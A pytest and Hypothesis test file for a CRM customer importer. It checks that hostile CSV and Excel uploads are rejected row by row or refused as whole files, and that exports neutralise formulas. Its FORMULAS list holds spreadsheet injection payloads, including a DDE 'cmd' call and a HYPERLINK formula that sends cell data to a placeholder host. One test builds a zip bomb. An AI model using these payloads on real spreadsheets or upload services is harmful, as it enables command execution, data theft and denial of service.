"""Hostile customer files: every bad row gets its own error, good rows still go in, nothing else
in the archive changes; a file that cannot be read at all is refused as a whole.

Hypothesis writes CSV files with any text in their cells (control characters, formulas, quotes,
Chinese, very long values) between good rows; explicit cases cover encodings, broken and
oversized .xlsx files, dates out of range, and formula cells going out again through the
exports (``crm_bridge/web/exports.py``).
"""

from __future__ import annotations

import csv
import io
import random
import shutil
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crm_bridge.customers import importer as customer_import
from crm_bridge.customers.importer import ImportFileError, ImportReport, import_customers
from crm_bridge.db.engine import make_engine, make_session_factory
from crm_bridge.db.migrate import upgrade
from crm_bridge.db.models import Customer, CustomerPhone
from crm_bridge.web.exports import FORMULA_STARTS, to_csv, to_xlsx

FUZZ = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
HEADER = ["卡号", "姓名", "手机"]
KEPT = ("K0001", "老客户", "+8613800000000")
"""A customer in the archive before every import: no hostile file may change them."""
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "\t=1+1",
    "\r=1+1",
]
hostile_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(["\x00", "\r", "\n", "\t", "\x1b", ",", '"', "=", "+", "-", "@", "张"]),
        st.characters(blacklist_categories=("Cs",)),
    ),
    max_size=90,
)


def archive(sessions) -> dict[str, tuple[str, list[str]]]:
    with sessions() as session:
        return {
            c.card_no: (c.name, sorted(p.number_e164 for p in c.phones))
            for c in session.scalars(sa.select(Customer))
        }


def seed_kept(sessions) -> None:
    with sessions.begin() as session:
        session.add(
            Customer(card_no=KEPT[0], name=KEPT[1], phones=[CustomerPhone(number_e164=KEPT[2])])
        )


@pytest.fixture(scope="module")
def template_db(tmp_path_factory) -> Path:
    """A migrated SQLite file holding the kept customer; each generated example gets a copy
    (migrating for every example would take most of the time)."""
    path = tmp_path_factory.mktemp("template") / "archive.sqlite"
    upgrade(f"sqlite:///{path}")
    engine = make_engine(f"sqlite:///{path}")
    seed_kept(make_session_factory(engine))
    engine.dispose()
    return path


@contextmanager
def fresh_archive(template: Path, folder: Path) -> Iterator:
    path = folder / "archive.sqlite"
    shutil.copy(template, path)
    engine = make_engine(f"sqlite:///{path}")
    try:
        yield make_session_factory(engine)
    finally:
        engine.dispose()


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *rows])
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def good_row(i: int) -> list[str]:
    return [f"G{i:04d}", f"好客户{i}", f"139{i:08d}"]


def expected_good(indexes) -> dict[str, tuple[str, list[str]]]:
    return {f"G{i:04d}": (f"好客户{i}", [f"+86139{i:08d}"]) for i in indexes}


def assert_only_good_rows_added(sessions, report: ImportReport, good, bad_rows: set[int]):
    found = archive(sessions)
    assert found.pop(KEPT[0]) == (KEPT[1], [KEPT[2]])
    assert {k: v for k, v in found.items() if k.startswith("G")} == expected_good(good)
    assert {e.row for e in report.errors} <= bad_rows
    assert report.rejected == len({e.row for e in report.errors})


@pytest.fixture
def kept(sqlite_sessions):
    seed_kept(sqlite_sessions)
    return sqlite_sessions


# --------------------------------------------------------------------------- CSV cells


@FUZZ
@given(names=st.lists(hostile_text, min_size=1, max_size=6))
def test_any_cell_text_is_imported_as_written_or_rejected_alone(
    tmp_path_factory, template_db, names
):
    """Good rows around rows whose name is any text: the good rows go in; a hostile row is
    either stored exactly as written (trimmed) or rejected with its own row number."""
    folder = tmp_path_factory.mktemp("csv")
    rows, hostile = [good_row(0)], {}
    for i, name in enumerate(names, start=1):
        rows += [[f"H{i:04d}", name, ""], good_row(i)]
        hostile[f"H{i:04d}"] = (2 * i + 1, name)  # its row number in the file
    with fresh_archive(template_db, folder) as sessions:
        report = import_customers(sessions, write_csv(folder / "hostile.csv", rows))
        found = archive(sessions)
    assert {k: v for k, v in found.items() if k.startswith("G")} == expected_good(
        range(len(names) + 1)
    )
    assert found[KEPT[0]] == (KEPT[1], [KEPT[2]])
    rejected = {e.row for e in report.errors}
    for card_no, (row_number, name) in hostile.items():
        if card_no in found:
            assert row_number not in rejected
            stored = found[card_no][0]
            assert stored == name.strip() or name.strip().startswith('="')
            assert not any(ch in stored for ch in "\x00\r\n\x1b")
        else:
            assert row_number in rejected, (card_no, name)
    assert report.rejected == len(rejected) == len(hostile) + len(names) + 1 - report.inserted


@pytest.mark.parametrize("bad", ["张\x00三", "李\n四", "王\r五", "赵\x1b[31m六", "钱\x7f七"])
def test_control_characters_reject_their_row_on_every_database(tmp_path, db_sessions, bad):
    """PostgreSQL refuses NUL in text: before the check, one such cell failed the whole chunk."""
    seed_kept(db_sessions)
    rows = [good_row(1), ["B0001", bad, "13900000099"], good_row(2)]
    report = import_customers(db_sessions, write_csv(tmp_path / "ctl.csv", rows))
    (error,) = report.errors
    assert (error.row, error.field, error.column) == (3, "name", "姓名")
    assert "control character" in error.reason_en
    assert_only_good_rows_added(db_sessions, report, [1, 2], {3})
    assert "B0001" not in archive(db_sessions)


def test_an_unterminated_quote_does_not_swallow_rows_silently(tmp_path, kept):
    """The quote runs to the end of the file, taking the next lines into one cell: that row is
    rejected (its cell now holds line breaks) rather than stored with the others inside it."""
    text = '卡号,姓名,手机\nG0001,好客户1,13900000001\nB0001,"坏的\nG0002,好客户2,13900000002\n'
    path = tmp_path / "quote.csv"
    path.write_text(text, encoding="utf-8")
    report = import_customers(kept, path)
    assert [(e.row, e.field) for e in report.errors] == [(3, "name")]
    assert_only_good_rows_added(kept, report, [1], {3})


def test_a_huge_cell_is_one_row_error_and_the_rest_goes_in(tmp_path, kept):
    """A cell over the csv module's 128 kB limit used to end the import with csv.Error."""
    rows = [good_row(1), ["B0001", "长" * 200_000, ""], good_row(2), ["B0002", "x" * 65, ""]]
    report = import_customers(kept, write_csv(tmp_path / "huge.csv", rows))
    assert [(e.row, e.field) for e in report.errors] == [(3, "row"), (5, "name")]
    assert "unreadable row" in report.errors[0].reason_en
    assert_only_good_rows_added(kept, report, [1, 2], {3, 5})


# --------------------------------------------------------------------------- whole files


@pytest.mark.parametrize(
    ("encoding", "imported"),
    [("utf-8", True), ("utf-8-sig", True), ("gbk", True), ("gb18030", True),
     ("utf-16", False), ("utf-16-le", False), ("utf-32", False)],
)  # fmt: skip
def test_encodings_are_read_or_the_file_is_refused(tmp_path, kept, encoding, imported):
    path = write_csv(tmp_path / f"{encoding}.csv", [good_row(1)], encoding)
    if imported:
        report = import_customers(kept, path)
        assert_only_good_rows_added(kept, report, [1], set())
    else:
        # with a BOM: not UTF-8 nor GB18030; without one, GB18030 reads it as junk: no header
        with pytest.raises(ImportFileError, match="neither UTF-8 nor GB18030|no header row"):
            import_customers(kept, path)
        assert_only_good_rows_added(kept, ImportReport(), [], set())


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "no header row"),
        ("\ufeff".encode(), "no header row"),
        ("卡号,姓名\n".encode(), None),
        ("姓名,手机\n张三,13900000001\n".encode(), "no header row"),
        ("卡号,姓名,name\nG0001,a,b\n".encode(), "two columns for name"),
        ("卡号,卡号,姓名\nG0001,G0002,a\n".encode(), "two columns for card_no"),
        (("\n" * 12 + "卡号,姓名\nG0001,a\n").encode(), "no header row"),
    ],
)
def test_empty_headerless_and_doubled_header_files(tmp_path, kept, content, message):
    path = tmp_path / "file.csv"
    path.write_bytes(content)
    if message is None:
        assert import_customers(kept, path).total == 0
    else:
        with pytest.raises(ImportFileError, match=message):
            import_customers(kept, path)
    assert_only_good_rows_added(kept, ImportReport(), [], set())


@FUZZ
@given(junk=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".txt", ".xlsx"]))
def test_random_bytes_are_refused_as_a_file_or_import_nothing(
    tmp_path_factory, template_db, junk, suffix
):
    folder = tmp_path_factory.mktemp("junk")
    path = folder / f"junk{suffix}"
    path.write_bytes(junk)
    with fresh_archive(template_db, folder) as sessions:
        try:
            report = import_customers(sessions, path)
        except ImportFileError as refused:
            assert "(" in str(refused)  # zh-CN (English)
        else:
            assert report.inserted == report.updated == 0
        assert archive(sessions) == {KEPT[0]: (KEPT[1], [KEPT[2]])}


# --------------------------------------------------------------------------- Excel files


def workbook_bytes(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in [HEADER, *rows]:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rezipped(xlsx: bytes, change) -> bytes:
    """The same .xlsx with each member passed through ``change(name, data)`` (None drops it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = change(name, source.read(name))
            if data is not None:
                target.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04 this is not a zip", "not a valid .xlsx"),
        (b"plain text named .xlsx", "not a valid .xlsx"),
        (b"", "not a valid .xlsx"),
    ],
)
def test_an_xlsx_that_is_not_a_zip_is_refused(tmp_path, kept, content, message):
    path = tmp_path / "book.xlsx"
    path.write_bytes(content)
    with pytest.raises(ImportFileError, match=message):
        import_customers(kept, path)
    assert_only_good_rows_added(kept, ImportReport(), [], set())


def test_a_zip_that_is_not_a_workbook_or_lost_its_sheet_is_refused(tmp_path, kept):
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive_file:
        archive_file.writestr("hello.txt", "not a workbook")
    no_sheet = rezipped(workbook_bytes([good_row(1)]), lambda n, d: None if n == SHEET else d)
    for name, content, message in [
        ("other.xlsx", other.getvalue(), "not a valid .xlsx"),
        ("nosheet.xlsx", no_sheet, "no worksheet"),
    ]:
        path = tmp_path / name
        path.write_bytes(content)
        with pytest.raises(ImportFileError, match=message):
            import_customers(kept, path)
    assert_only_good_rows_added(kept, ImportReport(), [], set())


def test_a_sheet_that_breaks_off_keeps_the_rows_before_it(tmp_path, kept):
    """Bad XML part-way (a truncated download) used to end the import with a ParseError."""
    xlsx = workbook_bytes([good_row(i) for i in range(1, 801)])

    def broken(name: str, data: bytes) -> bytes:
        return data[: len(data) * 3 // 4] + b"<c r=&&&" if name == SHEET else data

    path = tmp_path / "broken.xlsx"
    path.write_bytes(rezipped(xlsx, broken))
    report = import_customers(kept, path)
    (error,) = report.errors
    assert (error.field, error.column) == ("row", customer_import.WHOLE_ROW)
    assert "damaged" in error.reason_en
    assert 100 < report.inserted == error.row - 2 < 800  # every row before the damage
    assert_only_good_rows_added(kept, report, range(1, report.inserted + 1), {error.row})


def test_an_xlsx_unpacking_to_gigabytes_is_refused_before_parsing(tmp_path, kept):
    """A zip bomb: a few hundred kB that would unpack past the cap. Written with real data (zip
    sizes cannot be faked: reading stops at the declared size and checks the CRC)."""
    xlsx = workbook_bytes([good_row(1)])
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(path, "w") as bomb:
        for name in source.namelist():
            if name != SHEET:
                bomb.writestr(name, source.read(name), zipfile.ZIP_DEFLATED)
        sheet = source.read(SHEET)
        cut = sheet.index(b"</sheetData>")
        info = zipfile.ZipInfo(SHEET)
        info.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(info, "w", force_zip64=True) as member:
            member.write(sheet[:cut])
            block = b" " * (1 << 20)
            for _ in range(customer_import.MAX_XLSX_UNPACKED_BYTES // len(block) + 1):
                member.write(block)
            member.write(sheet[cut:])
    assert path.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(ImportFileError, match="unpacks to over 256 MB"):
        import_customers(kept, path)
    assert_only_good_rows_added(kept, ImportReport(), [], set())


@pytest.mark.filterwarnings("ignore:Cell .* is marked as a date:UserWarning")
def test_dates_out_of_range_and_formula_cells_are_row_errors(tmp_path, kept):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["卡号", "姓名", "生日"])
    rows = [
        ["G0001", "好客户1", "1990-01-31"],
        ["B0001", "坏1", 1e9],  # an Excel serial far past year 9999
        ["B0002", "坏2", -5],
        ["B0003", "坏3", "9999-12-31"],
        ["B0004", "坏4", "1899-12-31"],
        ["B0005", "坏5", "2001-02-30"],
        ["B0006", "坏6", "99999-01-01"],
        ["B0007", "=1+1", ""],  # a formula: no cached value, so no name
        ["G0002", "好客户2", ""],
    ]
    for values in rows:
        sheet.append(values)
    for row in (3, 4):
        sheet.cell(row=row, column=3).number_format = "yyyy-mm-dd"
    path = tmp_path / "dates.xlsx"
    workbook.save(path)
    report = import_customers(kept, path)
    errors = {(e.row, e.field) for e in report.errors}
    assert errors == {(r, "birthday") for r in range(3, 9)} | {(9, "name")}
    assert report.inserted == 2
    found = archive(kept)
    assert set(found) == {KEPT[0], "G0001", "G0002"}


# --------------------------------------------------------------------------- going out again


def read_csv_export(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_imported_formulas_are_stored_as_text_and_exported_defused(tmp_path, kept):
    rows = [[f"F{i:04d}", formula, ""] for i, formula in enumerate(FORMULAS)]
    report = import_customers(kept, write_csv(tmp_path / "formulas.csv", rows))
    stored = archive(kept)
    # tab and CR lead a cell that is stripped on import; the others are names like any
    assert {k: v[0] for k, v in stored.items() if k.startswith("F")} == {
        f"F{i:04d}": formula.strip() for i, formula in enumerate(FORMULAS)
    }
    assert report.rejected == 0
    names = [[v[0]] for k, v in sorted(stored.items())]
    exported = read_csv_export(to_csv(["姓名"], names))
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx("客户", ["姓名"], names)))
    cells = [c for (c,) in workbook.active.iter_rows(min_row=2)]
    for (name,), (out,), cell in zip(names, exported[1:], cells, strict=True):
        if name.startswith(FORMULA_STARTS):
            assert out == "'" + name
        assert cell.data_type != "f" and cell.value == out


@FUZZ
@given(cells=st.lists(st.one_of(hostile_text, st.sampled_from(FORMULAS)), min_size=1, max_size=8))
def test_exports_never_hold_a_formula_and_never_fail(cells):
    """Any text (a caller name from the network, a campaign name) goes out as text: never a
    formula, in CSV or Excel. Control characters used to fail the .xlsx export."""
    rows = [[cell] for cell in cells]
    exported = read_csv_export(to_csv(["名称"], rows))
    assert [row[0] for row in exported[1:]] == [
        "'" + c if c.startswith(FORMULA_STARTS) else c for c in cells
    ]
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx("导出", ["名称"], rows)))
    for (cell,) in workbook.active.iter_rows(min_row=2):
        assert cell.data_type != "f"
        assert not str(cell.value or "").startswith(("=", "+", "-", "@"))


def test_large_random_files_do_not_reach_the_archive(tmp_path, kept):
    path = tmp_path / "random.csv"
    path.write_bytes(random.Random(7).randbytes(2 * 1024 * 1024))
    with pytest.raises(ImportFileError):
        import_customers(kept, path)
    assert_only_good_rows_added(kept, ImportReport(), [], set())
